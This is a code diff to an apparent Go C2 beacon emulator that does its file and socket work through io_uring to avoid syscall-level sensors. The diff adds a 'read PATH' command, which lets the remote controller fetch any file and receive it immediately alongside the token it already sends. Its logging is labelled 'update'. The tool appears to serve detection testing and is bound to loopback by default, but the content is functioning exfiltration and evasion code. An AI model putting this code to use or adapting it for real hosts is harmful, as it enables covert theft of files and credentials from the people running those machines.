@@ -5,7 +5,8 @@
 // in a length-prefixed encoding/gob frame, to a C2 listener, then reads the C2's command frame
 // back. All file and socket work goes through io_uring (OPENAT, READ, CLOSE, SOCKET, CONNECT,
 // WRITE or SEND, READ or RECV): a syscall-level sensor sees only io_uring_setup and
-// io_uring_enter. Loopback only by default; bounded by -n.
+// io_uring_enter. Like the original's C2 client it obeys one command, "read PATH": the file is
+// read and sent at once the same way. Loopback only by default; bounded by -n.
 package main
 
 import (
@@ -13,6 +14,7 @@ import (
 	"fmt"
 	"net/netip"
 	"os"
+	"strings"
 	"syscall"
 	"time"
 
@@ -64,27 +66,27 @@ type beacon struct {
 	host    string
 }
 
-func (b *beacon) readToken() ([]byte, error) {
-	fd, err := b.ring.Openat(b.token, syscall.O_RDONLY|syscall.O_CLOEXEC)
+func (b *beacon) readFile(path string) ([]byte, error) {
+	fd, err := b.ring.Openat(path, syscall.O_RDONLY|syscall.O_CLOEXEC)
 	if err != nil {
-		return nil, fmt.Errorf("open %s: %w", b.token, err)
+		return nil, fmt.Errorf("open %s: %w", path, err)
 	}
 	defer b.ring.CloseFd(fd)
 	buf := make([]byte, maxToken)
 	n, err := b.ring.Read(fd, buf, 0)
 	if err != nil {
-		return nil, fmt.Errorf("read %s: %w", b.token, err)
+		return nil, fmt.Errorf("read %s: %w", path, err)
 	}
 	return buf[:n], nil
 }
 
-// once does one beacon: token out, command back. Returns the command received.
-func (b *beacon) once(seq uint32) (string, int, error) {
-	data, err := b.readToken()
+// once does one exchange: the file at path out, a command back. Returns the command received.
+func (b *beacon) once(seq uint32, path string) (string, int, error) {
+	data, err := b.readFile(path)
 	if err != nil {
 		return "", 0, err
 	}
-	msg, err := frame.Encode(&frame.Frame{Seq: seq, Kind: "file", Host: b.host, Path: b.token,
+	msg, err := frame.Encode(&frame.Frame{Seq: seq, Kind: "file", Host: b.host, Path: path,
 		Data: data})
 	if err != nil {
 		return "", 0, err
@@ -152,12 +154,21 @@ func main() {
 	failures := 0
 	for i := 1; i <= *n; i++ {
 		start := time.Now()
-		cmd, sent, err := b.once(uint32(i))
+		cmd, sent, err := b.once(uint32(i), b.token)
 		if err != nil {
 			failures++
 			fmt.Fprintf(os.Stderr, "update: beacon %d: %v\n", i, err)
 		} else if !*quiet {
 			fmt.Printf("beacon %d: sent %d bytes, command %q\n", i, sent, cmd)
+		}
+		// The C2 may ask for one more file ("read PATH"): fetch and send it at once.
+		if path := strings.TrimPrefix(cmd, "read "); err == nil && path != cmd && path != "" {
+			if _, sent, err = b.once(uint32(i), path); err != nil {
+				failures++
+				fmt.Fprintf(os.Stderr, "update: command %q: %v\n", cmd, err)
+			} else if !*quiet {
+				fmt.Printf("command %q: sent %d bytes\n", cmd, sent)
+			}
 		}
 		if i < *n {
 			time.Sleep(*interval - time.Since(start))
